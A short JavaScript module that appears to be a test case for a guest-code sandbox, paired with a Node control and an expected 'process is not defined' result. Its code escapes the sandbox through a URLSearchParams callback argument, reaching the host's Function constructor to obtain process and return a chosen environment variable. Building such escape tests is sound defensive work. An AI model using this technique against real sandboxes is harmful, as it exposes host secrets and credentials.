// A callback of URLSearchParams is handed an object of the host's.
// guard: a guest imports nothing
// harm: loot
// control: node
// says: process is not defined
module.exports = {
  metadata: { name: 'callback-of-the-host', cache: 0, match: { contextType: 'github', context: { 'page.attack': { equals: 'callback-of-the-host' } } } },
  run(context) {
    let take;
    new URL('https://example.com/?a=1').searchParams.forEach((value, key, parameters) => {
      take = parameters.constructor.constructor('return process')();
    });
    return { type: 'text', content: take.env[context.page.variable] };
  },
};
